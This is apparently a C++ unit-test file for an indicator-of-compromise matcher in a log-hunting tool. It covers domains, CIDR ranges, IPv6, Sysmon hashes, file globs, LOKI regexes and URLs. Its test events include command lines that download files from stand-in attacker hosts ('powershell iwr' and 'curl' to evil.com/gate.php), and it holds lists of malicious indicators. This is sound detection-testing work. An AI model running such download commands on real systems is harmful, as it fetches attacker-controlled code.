// IocMatcher: every indicator type against the fields the field map names, the edges (subdomains vs look-alike
// names, CIDR first/last addresses, /0, /32, /128, IPv6 spellings, v4-mapped addresses, Sysmon Hashes, globs
// and case), and the indexed matcher compared with the slow reference twin.
#include <gtest/gtest.h>

#include <random>
#include <set>
#include <string>
#include <vector>

#include "ioc/ioc.h"
#include "ioc/ioc_value.h"

namespace trawl {
namespace {

std::shared_ptr<const IocSet> make_set(const std::string& text, bool subdomains = true) {
  IocLoadOptions opt;
  opt.format = IocFormat::kText;
  opt.domain_subdomains = subdomains;
  IocLoadReport rep;
  auto r = IocSet::load_memory(text, "test.txt", opt, &rep);
  EXPECT_TRUE(r.ok()) << r.status().message();
  for (const auto& l : rep.rejected_lines) ADD_FAILURE() << "unexpected rejection: " << l;
  return r.value();
}

struct Ev {
  std::vector<std::pair<std::string, std::string>> f;
  Event e;
  Ev(std::initializer_list<std::pair<std::string, std::string>> fields) : f(fields) {
    for (auto& [n, v] : f) e.add(n, v);
  }
};

// Matches with the fast matcher, checks the reference twin agrees, returns "field=value" strings.
std::set<std::string> hits(const std::shared_ptr<const IocSet>& set, const Event& e) {
  IocMatcher m(set);
  std::vector<IocHit> fast, slow;
  m.match(e, fast);
  ioc_reference_match(*set, set->fields(), e, slow);
  std::set<std::string> a, b;
  for (auto& h : fast) a.insert(h.field + "=" + std::string(h.value));
  for (auto& h : slow) b.insert(h.field + "=" + std::string(h.value));
  EXPECT_EQ(a, b) << "indexed matcher and reference twin disagree";
  return a;
}

TEST(IocMatch, SubdomainsMatchButLookAlikesDoNot) {
  auto set = make_set("evil.com\n");
  EXPECT_EQ(hits(set, Ev{{"QueryName", "evil.com"}}.e), std::set<std::string>{"QueryName=evil.com"});
  EXPECT_EQ(hits(set, Ev{{"QueryName", "a.b.EVIL.com."}}.e), std::set<std::string>{"QueryName=evil.com"});
  EXPECT_TRUE(hits(set, Ev{{"QueryName", "notevil.com"}}.e).empty());
  EXPECT_TRUE(hits(set, Ev{{"QueryName", "evil.com.au"}}.e).empty());
  EXPECT_TRUE(hits(set, Ev{{"QueryName", "com"}}.e).empty());
  EXPECT_TRUE(hits(set, Ev{{"QueryName", "xevil.com"}}.e).empty());
  // Zeek names, a port on an HTTP host, a field that is not a domain field.
  EXPECT_EQ(hits(set, Ev{{"query", "www.evil.com"}}.e), std::set<std::string>{"query=evil.com"});
  EXPECT_EQ(hits(set, Ev{{"server_name", "cdn.evil.com:443"}}.e), std::set<std::string>{"server_name=evil.com"});
  EXPECT_TRUE(hits(set, Ev{{"User", "evil.com"}}.e).empty());
}

TEST(IocMatch, ExactDomainsDoNotTakeSubdomains) {
  auto set = make_set("evil.com\n*.wild.net\n", /*subdomains=*/false);
  EXPECT_EQ(hits(set, Ev{{"QueryName", "evil.com"}}.e).size(), 1u);
  EXPECT_TRUE(hits(set, Ev{{"QueryName", "a.evil.com"}}.e).empty());
  // "*." asks for subdomains whatever the option.
  EXPECT_EQ(hits(set, Ev{{"QueryName", "x.wild.net"}}.e).size(), 1u);
  EXPECT_EQ(hits(set, Ev{{"QueryName", "wild.net"}}.e).size(), 1u);
  EXPECT_TRUE(hits(set, Ev{{"QueryName", "unwild.net"}}.e).empty());
}

TEST(IocMatch, CidrEdges) {
  auto set = make_set("10.1.2.0/24\n192.0.2.77/32\n");
  auto one = [&](const char* ip) { return hits(set, Ev{{"DestinationIp", ip}}.e).size(); };
  EXPECT_EQ(one("10.1.2.0"), 1u);    // first address
  EXPECT_EQ(one("10.1.2.255"), 1u);  // last address
  EXPECT_EQ(one("10.1.1.255"), 0u);  // one below
  EXPECT_EQ(one("10.1.3.0"), 0u);    // one above
  EXPECT_EQ(one("192.0.2.77"), 1u);
  EXPECT_EQ(one("192.0.2.76"), 0u);
  EXPECT_EQ(one("192.0.2.78"), 0u);
  EXPECT_EQ(one("::ffff:10.1.2.9"), 1u);  // v4-mapped IPv6 is the IPv4 address
  EXPECT_EQ(one("10.1.2.9:445"), 1u);     // address:port
  EXPECT_EQ(one("not an ip"), 0u);
}

TEST(IocMatch, CidrZeroAndHostPrefixes) {
  auto v4all = make_set("0.0.0.0/0\n");
  EXPECT_EQ(hits(v4all, Ev{{"SourceIp", "255.255.255.255"}}.e).size(), 1u);
  EXPECT_EQ(hits(v4all, Ev{{"SourceIp", "0.0.0.0"}}.e).size(), 1u);
  EXPECT_EQ(hits(v4all, Ev{{"SourceIp", "2001:db8::1"}}.e).size(), 0u);  // IPv4 /0 is all of IPv4 only
  auto v6all = make_set("::/0\n");
  EXPECT_EQ(hits(v6all, Ev{{"SourceIp", "2001:db8::1"}}.e).size(), 1u);
  EXPECT_EQ(hits(v6all, Ev{{"SourceIp", "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff"}}.e).size(), 1u);
  auto host6 = make_set("2001:db8::1/128\n");
  EXPECT_EQ(hits(host6, Ev{{"SourceIp", "2001:0db8:0000:0000:0000:0000:0000:0001"}}.e).size(), 1u);
  EXPECT_EQ(hits(host6, Ev{{"SourceIp", "2001:db8::2"}}.e).size(), 0u);
  EXPECT_EQ(hits(host6, Ev{{"SourceIp", "2001:db8::0"}}.e).size(), 0u);
}

TEST(IocMatch, Ipv6Spellings) {
  auto set = make_set("2001:db8::/32\n2001:db8:aaaa::5\n");
  EXPECT_EQ(hits(set, Ev{{"id.resp_h", "2001:db8::"}}.e).size(), 1u);  // first
  EXPECT_EQ(hits(set, Ev{{"id.resp_h", "2001:db8:ffff:ffff:ffff:ffff:ffff:ffff"}}.e).size(), 1u);  // last
  EXPECT_EQ(hits(set, Ev{{"id.resp_h", "2001:db9::"}}.e).size(), 0u);
  EXPECT_EQ(hits(set, Ev{{"id.resp_h", "2001:0DB8:AAAA:0:0:0:0:5"}}.e).size(), 2u);  // the /32 and the host
  EXPECT_EQ(hits(set, Ev{{"id.resp_h", "[2001:db8:aaaa::5]:443"}}.e).size(), 2u);
  EXPECT_EQ(hits(set, Ev{{"id.resp_h", "fe80::1%eth0"}}.e).size(), 0u);
  // Zeek JSON from the APT29 dataset says id_orig_h.
  EXPECT_EQ(hits(set, Ev{{"id_orig_h", "2001:db8::1"}}.e).size(), 1u);
}

TEST(IocMatch, SysmonHashesAreSplit) {
  auto set = make_set(
      "0123456789abcdef0123456789abcdef01234567\n"                          // sha1
      "A94A8FE5CCB19BA61C4C0873D391E987982FBBD3A94A8FE5CCB19BA61C4C0873\n"  // sha256 (upper case in list)
      "d41d8cd98f00b204e9800998ecf8427e\n");                              // md5
  auto h = hits(set, Ev{{"Hashes",
                         "SHA1=0123456789ABCDEF0123456789ABCDEF01234567,MD5=00000000000000000000000000000000,"
                         "SHA256=a94a8fe5ccb19ba61c4c0873d391e987982fbbd3a94a8fe5ccb19ba61c4c0873,"
                         "IMPHASH=D41D8CD98F00B204E9800998ECF8427E"}}
                        .e);
  // The IMPHASH value equals the md5 indicator's text but is an import hash: no md5 hit.
  EXPECT_EQ(h, (std::set<std::string>{"Hashes=0123456789abcdef0123456789abcdef01234567",
                                      "Hashes=a94a8fe5ccb19ba61c4c0873d391e987982fbbd3a94a8fe5ccb19ba61c4c0873"}));
  EXPECT_EQ(hits(set, Ev{{"Hashes", "MD5=D41D8CD98F00B204E9800998ECF8427E"}}.e).size(), 1u);
  EXPECT_EQ(hits(set, Ev{{"md5", "d41d8cd98f00b204e9800998ecf8427e"}}.e).size(), 1u);  // Zeek files.log
  EXPECT_EQ(hits(set, Ev{{"Hashes", "garbage,=,MD5=,SHA256"}}.e).size(), 0u);
}

TEST(IocMatch, ImphashFromTypedList) {
  IocSetBuilder b;
  bool dup;
  std::string why;
  ASSERT_TRUE(b.add(IocType::kImphash, "F34D5F2D4577ED6D9CEEC516C1F5A744", "t", "x", 1, Level::kHigh, &dup, &why));
  auto set = b.build().value();
  EXPECT_EQ(hits(set, Ev{{"Hashes", "MD5=aa,IMPHASH=f34d5f2d4577ed6d9ceec516c1f5a744"}}.e).size(), 1u);
  EXPECT_EQ(hits(set, Ev{{"Hashes", "MD5=f34d5f2d4577ed6d9ceec516c1f5a744"}}.e).size(), 0u);
}

TEST(IocMatch, FileNamesAndGlobsIgnoreCase) {
  auto set = make_set("jli.dll\n*\\AppData\\Local\\Temp\\*.EXE\nsvc??.dat\n");
  EXPECT_EQ(hits(set, Ev{{"ImageLoaded", "C:\\Program Files\\x\\JLI.DLL"}}.e),
            std::set<std::string>{"ImageLoaded=jli.dll"});
  EXPECT_TRUE(hits(set, Ev{{"ImageLoaded", "C:\\x\\jli.dll.bak"}}.e).empty());
  EXPECT_TRUE(hits(set, Ev{{"ImageLoaded", "C:\\x\\notjli.dll"}}.e).empty());
  EXPECT_EQ(hits(set, Ev{{"Image", "C:\\Users\\bob\\appdata\\local\\temp\\x.exe"}}.e).size(), 1u);
  EXPECT_EQ(hits(set, Ev{{"TargetFilename", "C:/Users/bob/AppData/Local/Temp/y.exe"}}.e).size(), 1u);
  EXPECT_TRUE(hits(set, Ev{{"Image", "C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe.txt"}}.e).empty());
  EXPECT_EQ(hits(set, Ev{{"ParentImage", "D:\\SVC01.DAT"}}.e).size(), 1u);    // base-name glob
  EXPECT_TRUE(hits(set, Ev{{"ParentImage", "D:\\svc1.dat"}}.e).empty());     // '?' is exactly one char
  EXPECT_TRUE(hits(set, Ev{{"CommandLine", "jli.dll"}}.e).empty());          // not a file field
}

TEST(IocMatch, LokiRegexWithExclusion) {
  IocLoadOptions opt;
  opt.format = IocFormat::kLokiFilename;
  IocLoadReport rep;
  auto set = IocSet::load_memory("# test\n\\\\ProgramData\\\\SxS\\\\[^\\\\\"]{1,20}\\.(exe|dll);50;\\\\eastoeb\\.exe\n"
                                 "(?i)\\\\rund11\\.exe;90\n",
                                 "filename-iocs.txt", opt, &rep)
                 .value();
  EXPECT_EQ(rep.accepted, 2u);
  EXPECT_EQ(hits(set, Ev{{"Image", "C:\\ProgramData\\SxS\\a.exe"}}.e).size(), 1u);
  EXPECT_EQ(hits(set, Ev{{"Image", "C:\\programdata\\sxs\\A.DLL"}}.e).size(), 1u);  // case-insensitive
  EXPECT_TRUE(hits(set, Ev{{"Image", "C:\\ProgramData\\SxS\\eastoeb.exe"}}.e).empty());  // excluded
  EXPECT_EQ(hits(set, Ev{{"Image", "C:\\Windows\\RUND11.exe"}}.e).size(), 1u);
  EXPECT_TRUE(hits(set, Ev{{"Image", "C:\\Windows\\rundll.exe"}}.e).empty());
}

TEST(IocMatch, UrlsInCommandLinesAndZeekHttp) {
  auto set = make_set("hxxp://evil[.]com/gate.php\nhttp://198.51.100.9\nhttps://cdn.example.org/dir/\n");
  EXPECT_EQ(hits(set, Ev{{"CommandLine", "powershell iwr HTTP://EVIL.COM/gate.php -o x"}}.e).size(), 1u);
  EXPECT_EQ(hits(set, Ev{{"CommandLine", "curl https://evil.com/gate.php?id=1"}}.e).size(), 1u);  // any scheme
  EXPECT_TRUE(hits(set, Ev{{"CommandLine", "curl http://notevil.com/gate.php"}}.e).empty());
  EXPECT_TRUE(hits(set, Ev{{"CommandLine", "curl http://evil.com/gate.php5"}}.e).empty());
  EXPECT_TRUE(hits(set, Ev{{"CommandLine", "curl http://evil.com.au/gate.php"}}.e).empty());
  EXPECT_EQ(hits(set, Ev{{"CommandLine", "x http://198.51.100.9/a.exe"}}.e).size(), 1u);
  EXPECT_EQ(hits(set, Ev{{"CommandLine", "x http://198.51.100.9:8080/"}}.e).size(), 1u);
  EXPECT_TRUE(hits(set, Ev{{"CommandLine", "x http://198.51.100.90/"}}.e).empty());
  EXPECT_EQ(hits(set, Ev{{"CommandLine", "x https://user@cdn.example.org/dir/file.bin"}}.e).size(), 1u);
  EXPECT_EQ(hits(set, Ev{{"host", "evil.com"}, {"uri", "/gate.php"}}.e),
            std::set<std::string>{"host+uri=http://evil.com/gate.php"});
  EXPECT_TRUE(hits(set, Ev{{"host", "evil.com"}, {"uri", "/other.php"}}.e).empty());
}

TEST(IocMatch, UserFieldMapExtendsTheBuiltIn) {
  auto set = make_set("evil.com\n");
  auto extra = IocFieldMap::parse_yaml("domain: [MyDnsField]\n", "extra.yml");
  ASSERT_TRUE(extra.ok()) << extra.status().message();
  IocFieldMap fm = set->fields();
  fm.merge(extra.value());
  IocMatcher m(set, fm);
  std::vector<IocHit> out;
  Ev ev{{"MyDnsField", "x.evil.com"}, {"QueryName", "evil.com"}};
  m.match(ev.e, out);
  EXPECT_EQ(out.size(), 2u);
  EXPECT_FALSE(IocFieldMap::parse_yaml("colour: [x]\n", "bad.yml").ok());
  EXPECT_FALSE(IocFieldMap::parse_yaml("ip: {a: b}\n", "bad.yml").ok());
  EXPECT_FALSE(IocFieldMap::parse_yaml("[unclosed\n", "bad.yml").ok());
}

TEST(IocMatch, DetectionNamesIndicatorTypeAndSource) {
  auto set = make_set("# Reference: unit test\nevil.com\n");
  Ev ev{{"Computer", "WS01"}, {"QueryName", "a.evil.com"}};
  IocMatcher m(set);
  std::vector<IocHit> out;
  m.match(ev.e, out);
  ASSERT_EQ(out.size(), 1u);
  Detection d = IocMatcher::to_detection(ev.e, out[0]);
  EXPECT_EQ(d.kind, DetectionKind::kIoc);
  EXPECT_EQ(d.rule_id, "ioc:domain_tree:evil.com");
  EXPECT_NE(d.title.find("Reference: unit test"), std::string::npos);
  EXPECT_EQ(d.host, "WS01");
  bool source = false;
  for (auto& [k, v] : d.fields)
    if (k == "ioc.source") source = v == "test.txt:2";
  EXPECT_TRUE(source);
}

// Generated indicators and events: the indexed matcher must agree with the reference on every event.
TEST(IocMatch, IndexedAgreesWithReferenceOnGeneratedData) {
  std::mt19937 rng(7);
  auto pick = [&](int n) { return int(rng() % unsigned(n)); };
  const char* labels[] = {"a", "bb", "evil", "c2", "x1", "mail"};
  const char* tlds[] = {"com", "net", "org"};
  std::string list;
  for (int i = 0; i < 300; ++i) {
    switch (pick(6)) {
      case 0: list += std::string(labels[pick(6)]) + "." + tlds[pick(3)] + "\n"; break;
      case 1: list += "10." + std::to_string(pick(4)) + "." + std::to_string(pick(4)) + ".0/" +
                      std::to_string(16 + pick(17)) + "\n"; break;
      case 2: list += "10.0." + std::to_string(pick(4)) + "." + std::to_string(pick(8)) + "\n"; break;
      case 3: list += "http://" + std::string(labels[pick(6)]) + ".com/" + labels[pick(6)] + "\n"; break;
      case 4: list += std::string(labels[pick(6)]) + (pick(2) ? ".exe" : ".dll") + "\n"; break;
      case 5: list += "*\\" + std::string(labels[pick(6)]) + "\\*.tmp\n"; break;
    }
  }
  IocLoadOptions opt;
  opt.format = IocFormat::kText;
  IocLoadReport rep;
  auto set = IocSet::load_memory(list, "gen.txt", opt, &rep).value();
  ASSERT_GT(set->size(), 30u);
  size_t total = 0;
  for (int i = 0; i < 400; ++i) {
    std::string dom = std::string(pick(2) ? "www." : "") + labels[pick(6)] + "." + tlds[pick(3)];
    std::string ip = "10." + std::to_string(pick(4)) + "." + std::to_string(pick(4)) + "." + std::to_string(pick(9));
    std::string cmd = "x http://" + std::string(labels[pick(6)]) + ".com/" + labels[pick(6)] + (pick(2) ? " y" : "z");
    std::string img = "C:\\" + std::string(labels[pick(6)]) + "\\" + labels[pick(6)] + (pick(2) ? ".exe" : ".tmp");
    Ev ev{{"QueryName", dom}, {"DestinationIp", ip}, {"CommandLine", cmd}, {"Image", img}};
    total += hits(set, ev.e).size();
  }
  EXPECT_GT(total, 100u);  // the comparison is not vacuous
}

}  // namespace
}  // namespace trawl
